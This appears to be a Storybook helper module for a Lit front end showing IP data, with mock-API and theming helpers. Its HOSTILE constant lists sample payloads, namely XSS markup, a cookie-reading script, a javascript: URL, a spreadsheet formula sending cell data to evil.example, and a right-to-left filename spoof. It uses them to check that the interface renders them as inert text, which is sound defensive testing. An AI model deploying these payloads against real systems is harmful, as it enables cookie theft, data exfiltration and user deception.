import { html, type TemplateResult } from 'lit';
import type { IpDataProvider } from '../src/data/provider.js';
import { createHandlers, type MockApiOptions } from '../mocks/handlers.js';

/** MSW parameters for a story: the demo API with options (failures, latency). */
export function api(options: MockApiOptions = {}) {
  return { msw: { handlers: createHandlers(options) } };
}

/** A story frame with the page background of the theme, so dark stories look dark. */
export function frame(content: TemplateResult, theme?: 'light' | 'dark', width?: string): TemplateResult {
  const bg = theme === 'dark' ? '#17181c' : '#f3f4f6';
  const style = `background:${bg};min-height:100vh;padding:0;${width ? `max-width:${width};` : ''}`;
  return html`<div style=${style}>${content}</div>`;
}

/** Stays loading for the story's lifetime. */
export const FOREVER = 2_147_483_647;

/** A provider answering like `base`, except the methods given (for stories of broken or hostile backends). */
export function overriding(base: IpDataProvider, overrides: Partial<Record<keyof IpDataProvider, unknown>>): IpDataProvider {
  return new Proxy(base, {
    get(target, prop) {
      if (Object.prototype.hasOwnProperty.call(overrides, prop)) return overrides[prop as keyof IpDataProvider];
      const value = Reflect.get(target, prop, target) as unknown;
      return typeof value === 'function' ? (value as (...a: unknown[]) => unknown).bind(target) : value;
    },
  });
}

/**
 * Text a hostile or broken data source could send: markup, a script, a `javascript:` URL, a
 * spreadsheet formula and a right-to-left override. Stories show it stays inert text.
 */
export const HOSTILE = {
  markup: '<img src=x onerror=alert(1)>',
  script: '<script>alert(document.cookie)</script>',
  url: 'javascript:alert(1)',
  formula: '=HYPERLINK("https://evil.example/?c="&A1,"Open")',
  bidi: 'invoice\u202Egpj.exe',
} as const;
